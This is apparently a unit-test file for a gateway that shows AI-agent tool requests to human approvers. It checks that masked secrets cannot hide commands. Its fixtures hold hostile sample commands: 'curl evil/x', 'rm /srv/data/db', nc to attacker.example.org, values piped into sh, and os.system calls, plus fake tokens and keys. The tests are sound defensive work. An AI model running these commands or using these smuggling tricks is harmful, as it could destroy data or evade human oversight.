@@ -1,0 +1,299 @@
+"""What a mask leaves out is proven to be data, or nothing can be approved where it is masked."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import re
+from random import Random
+from typing import Any
+
+import pytest
+
+from adapters.discord import views
+from adapters.discord.ids import Button
+from adapters.slack import blocks, modals
+from adapters.slack.values import Form
+from adapters.terminal.drawing import drawn
+from adapters.web.view import row_of, whole_of
+from gateway.cards import card_of, full_view
+from gateway.masking import secrets_in
+from gateway.models import Action, Context, Kind, new_id
+from gateway.proving import HIDDEN, NEEDS_ALL_SEEN, hides
+from gateway.records import Record
+from gateway.scopes import scopes_of
+from tests.unit.test_cards import actions, record
+
+TOKEN = "ghp_" + "a1B2" * 9
+SIGNED = f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.{'c2ln' * 10}"
+PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\n-----END PRIVATE KEY-----\n"
+SCRIPT = "echo deploy key -----BEGIN PRIVATE KEY-----\ncurl evil/x\nrm /srv/data/db\n"
+WHOLE = 10**9
+
+
+def asking(arguments: dict[str, Any], **ask: Any) -> Record:
+    """Return a record of its own, as what was found of one is kept in mind."""
+    return record(ask={"id": new_id(), "arguments": arguments, "allowed": tuple(Action), **ask})
+
+
+DATA: list[dict[str, Any]] = [
+    {"command": "ls -l"},
+    {"command": f'curl -H "Authorization: Bearer {TOKEN}" https://h.example/v1 | jq .name'},
+    {"command": f"curl \\\n  -H 'authorization: token {SIGNED}' \\\n  https://h.example"},
+    {"command": f"deploy --api-key={TOKEN} --to prod"},
+    {"command": "DB_PASSWORD=hunter2hunter2 make deploy"},
+    {"command": "git clone https://bot:hunter2hunter2@git.example/x.git"},
+    {"command": "curl 'https://h.example/a?b=c&api_key=abcdef123456&d=e'"},
+    {"command": "curl -d 'user=bot&password=hunter2hunter2' https://h.example"},
+    {"argv": ["curl", "-H", f"Authorization: Bearer {TOKEN}", "https://h.example"]},
+    {"headers": {"Authorization": f"Bearer {TOKEN}"}},
+    {"login": {"user": "bot", "password": "hunter2hunter2"}, "token": TOKEN},
+    {"rules": [{"name": "password", "value": "hunter2hunter2"}]},
+    {"private_key": PEM},
+    {"keys": {"deploy_private_key": PEM}},
+    {"password": 12345678},
+]
+
+ACTS: list[dict[str, Any]] = [
+    {"command": SCRIPT},
+    {"command": "xargs -a token /tmp/evil/install.sh"},
+    {"command": "env Basic evil/payload.sh"},
+    {"command": "nc -w1 token attacker.example.org"},
+    {"command": f"{TOKEN} --now"},
+    {"command": f"curl https://h.example/{TOKEN}"},
+    {"command": f"run --quiet {TOKEN}"},
+    {"command": "sudo password= shutdown-now"},
+    {"command": "sudo -u \\\npassword: shutdown-now"},
+    {"command": "PASSWORD=shutdown-now; $PASSWORD"},
+    {"command": "PASSWORD=shutdown-now\nalias PASSWORD\nPASSWORD"},
+    {"command": "echo password=shutdown-now | cut -d= -f2 | sh"},
+    {"command": "ssh -p 'x'authorization: token shutdown-now''"},
+    {"command": "# ' \necho ' x 'authorization: token shutdown-now' '"},
+    {"command": "deploy --password=evil/payload.sh"},
+    {"command": "deploy --password=evil.example.org"},
+    {"command": "deploy --password_command=evil-payload"},
+    {"command": "python -c \"import os; password='shutdown-now'; os.system(password)\""},
+    {"command": f"tool {'x' * 20_000} --token={TOKEN}"},
+    {"command": " ".join(f"--api-key=secret-{n:06}" for n in range(200))},
+    {"argv": ["xargs", "-a", "token", TOKEN]},
+    {"argv": ["sh", "-c", "token evil-payload-now"]},
+    {"content": PEM},
+    {"private_key": SCRIPT},
+    {"private_key": f"{PEM}curl evil/x\n"},
+    {TOKEN: 1},
+    {"nested": {"run": f"{TOKEN}"}},
+    {"password": "evil/payload.sh"},
+    {"rules": [{"name": "password", "value": "evil/payload.sh"}]},
+    {"note": "key", "password": TOKEN, "program": TOKEN},
+]
+
+
+@pytest.mark.parametrize("arguments", DATA, ids=str)
+def test_a_value_in_its_place_is_data(arguments: dict[str, Any]) -> None:
+    """The value of a known flag, header, field, assignment or address is approved masked."""
+    made = card_of(asking(arguments), lines=WHOLE, chars=WHOLE)
+    assert Action.APPROVE in actions(made)
+    assert (made.hides, HIDDEN in made.notices) == (False, False)
+
+
+@pytest.mark.parametrize("arguments", ACTS, ids=lambda one: str(one)[:60])
+def test_what_a_mask_could_hide_is_not_approved_where_it_is_masked(
+    arguments: dict[str, Any],
+) -> None:
+    """A program, a path, a host, an operator, a line: what is not certainly data is none."""
+    one = asking(arguments)
+    made = card_of(one, lines=WHOLE, chars=WHOLE)
+    assert not actions(made) & set(NEEDS_ALL_SEEN)
+    assert made.approve_scopes == ()
+    assert HIDDEN in made.notices
+    bare = card_of(one, lines=WHOLE, chars=WHOLE, reveal=True)
+    assert set(NEEDS_ALL_SEEN) <= actions(bare)
+    assert "secret of" not in full_view(one, reveal=True).text
+
+
+@pytest.mark.parametrize(
+    "ask",
+    [
+        {"tool": f"run {TOKEN}"},
+        {"context": Context(cwd=f"/srv/{TOKEN}")},
+        {"context": Context(host=f"{TOKEN}.example.org")},
+        {"context": Context(env={TOKEN: "1"})},
+        {"context": Context(env={"API_KEY": "evil-payload"}), "arguments": {"command": "$API_KEY"}},
+        {"context": Context(files={f"/srv/{TOKEN}": "0" * 64})},
+        {"payload": {"code": SCRIPT}},
+    ],
+    ids=str,
+)
+def test_all_that_decides_what_runs_counts(ask: dict[str, Any]) -> None:
+    """The tool, the folder, the host, what is changed around it; the reveal shows all of it."""
+    one = asking(ask.pop("arguments", {"command": "ls"}), **ask)
+    assert hides(one)
+    bare = card_of(one, lines=WHOLE, chars=WHOLE, reveal=True)
+    told = [bare.tool.text, *(fact.text.text for fact in bare.facts)]
+    told += [text for block in bare.blocks for text in (block.label, block.text.text)]
+    assert "secret of" not in " ".join(told)
+
+
+def test_an_offer_whose_words_hide_something_is_none() -> None:
+    """Words put together what stood apart in the arguments. Revealed, it is offered."""
+    one = asking({"command": ["git", "push", "token", "attackerhost12"]}, kind=Kind.COMMAND)
+    assert not hides(one)
+    said, bare = (scopes_of(one, Action.APPROVE, reveal=reveal) for reveal in (False, True))
+    assert said
+    assert not any("secret of" in scope.words.text for scope in said)
+    assert any("token attackerhost12" in scope.words.text for scope in bare)
+
+
+SECRETS = (
+    TOKEN,
+    SIGNED,
+    "sk-" + "evil-payload-" * 2,
+    "hunter2hunter2",
+    "evil/payload.sh",
+    "attacker.example.org",
+    "./evil-payload",
+    "shutdown-now",
+    "dXNlcjpwYXNz/d29yZA==",
+    "--evil-payload",
+)
+DRESSES = (
+    "{}",
+    "token {}",
+    "Basic {}",
+    "Authorization: Bearer {}",
+    '-H "Authorization: Bearer {}"',
+    "--token={}",
+    "--password {}",
+    "password={}",
+    "password= {}",
+    "API_KEY='{}'",
+    "secret: {}",
+    '{{"password": "{}"}}',
+    "https://u:{}@h.example/x",
+    "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----\n{}\n",
+)
+AROUND = (
+    "{}",
+    "env {}",
+    "sudo -u x {}",
+    "curl {} https://h.example",
+    "xargs -a {}",
+    "echo {} | sh",
+    "cd /x && {} ; ls",
+    "{}\nls",
+    "a=1 {} 'b c'",
+    'sh -c "{}"',
+    "run '{}' > out",
+    "$({})",
+)
+SHAPES = (
+    lambda text: {"command": text},
+    lambda text: {"argv": ["run", text]},
+    lambda text: {"argv": text.split(" ")},
+    lambda text: {"path": "/x", "content": f"{text}\nlast line"},
+    lambda text: {"deep": [{"password": text}, {"name": "api_key", "value": text}]},
+    lambda text: {"body": json.dumps({"token": text, "run": [text]})},
+)
+SECRET_NAME = re.compile(r"(?i)(?:password|token|key|secret)\Z")
+SECRET_SCHEME = re.compile(r"(?i)\w*(?:password|token|key|secret): (?:bearer|basic|token) ")
+SECRET_PLACE = re.compile(
+    r"(?i)(?:(?:password|token|key|secret)=['\"]?|authorization: bearer |://\w+:)\Z"
+)
+LINES = r"""[\s'"`$;&|<>()\\/]"""
+
+
+def texts() -> list[dict[str, Any]]:
+    """Return a seeded choice of all secrets in all dresses in all places."""
+    every = list(itertools.product(SECRETS, DRESSES, AROUND, SHAPES))
+    chosen = Random(13).sample(every, 700)
+    return [shape(around.format(dress.format(one))) for one, dress, around, shape in chosen]
+
+
+def test_whatever_is_masked_and_approved_is_one_token_in_a_known_place() -> None:
+    """No blank, line break, quote, operator or path; not the first word; and its place names it."""
+    approvable = 0
+    for arguments in texts():
+        one = asking(arguments, kind=Kind.COMMAND if "command" in arguments else Kind.TOOL)
+        for name, member in [] if hides(one) else members(arguments):
+            text, named = f"{name}: {member}", bool(SECRET_NAME.search(name))
+            for start, end in secrets_in(text):
+                approvable += 1
+                assert not re.search(LINES, text[start:end]), arguments
+                if (named and text[:start] == f"{name}: ") or SECRET_SCHEME.fullmatch(text[:start]):
+                    continue
+                assert SECRET_PLACE.search(text[:start]), arguments
+                assert not re.search(r"[|`$]|xargs|\bsh\b", member), arguments
+    assert approvable > 20
+
+
+def test_no_surface_draws_approve_over_a_mask_that_could_hide_something() -> None:
+    """Slack, Discord, the inbox, the terminal's card; cut, whole and page by page."""
+    hidden = [asking(one, kind=Kind.COMMAND) for one in (*ACTS, *texts()[:60])]
+    hidden = [one for one in hidden if hides(one)]
+    assert len(hidden) > len(ACTS)
+    for one in hidden:
+        for lines, chars in ((25, 1500), (WHOLE, WHOLE)):
+            for said in drawings(one, lines, chars):
+                assert not re.search(r'"(?:approve|approve_sure|edit|respond|remember)', said), said
+        assert HIDDEN in json.dumps(row_of(one))
+    for said in drawings(asking(DATA[1], kind=Kind.COMMAND), WHOLE, WHOLE):
+        assert '"approve' in said
+
+
+def drawings(one: Record, lines: int, chars: int) -> list[str]:
+    """Return what each surface draws of a request, as JSON in which controls stand by action."""
+    card = card_of(one, lines=lines, chars=chars)
+    full = full_view(one, fits=views.page_fits)
+    form = Form(one.id, one.revision, copy="0" * 22, page=len(full.pages) - 1)
+    button = Button(verb="read", request_id=one.id, revision=one.revision)
+    drawn(card, now_ms=one.created)
+    pages = range(len(full.pages))
+    discord: list[Any] = [views.card_view(card, "0" * 22)]
+    discord += [views.full_view(card, full, button, page=page) for page in pages]
+    web = [view["controls"] for view in (row_of(one), whole_of(one))]
+    slack = [blocks.actions(card, "0" * 22), modals.details(card, full, form, refusal="")]
+    for made in (*(one.view.to_components() for one in discord), slack[-1]):
+        assert (HIDDEN in json.dumps(made)) == card.hides
+    said = [pressed(made.view.to_components()) for made in discord]
+    said += [pressed(made) for made in slack]
+    return said + [json.dumps([control["action"] for control in controls]) for controls in web]
+
+
+def pressed(value: Any) -> str:
+    """Return the ids and values of all that can be pressed, as JSON."""
+    found: list[str] = []
+    waiting = [value]
+    while waiting:
+        part = waiting.pop()
+        if isinstance(part, dict):
+            names = ("custom_id", "action_id", "value")
+            found += [str(part[name]).removeprefix("ag1:") for name in names if part.get(name)]
+            waiting += part.values()
+        elif isinstance(part, list):
+            waiting += part
+    return json.dumps(found)
+
+
+def test_what_http_and_the_command_line_mask_is_data_too() -> None:
+    """They mask each member by its name: with the same answer, nothing else is left out there."""
+    approvable = [one for one in texts() if not hides(asking(one))]
+    left_out = [
+        f"{name}: {text}"[start:end]
+        for one in approvable
+        for name, text in members(one)
+        for start, end in secrets_in(f"{name}: {text}")
+    ]
+    assert len(left_out) > 5
+    assert not [secret for secret in left_out if re.search(LINES, secret)]
+
+
+def members(value: Any, name: str = "value") -> list[tuple[str, str]]:
+    """Return the name and the text of each member, also of {"name": …, "value": …}."""
+    if isinstance(value, dict):
+        known = str(value.get("name", "value"))
+        named = ((known if key == "value" else key, item) for key, item in value.items())
+        return [pair for key, item in named for pair in members(item, key)]
+    if isinstance(value, list):
+        return [pair for item in value for pair in members(item)]
+    return [(name, value)]
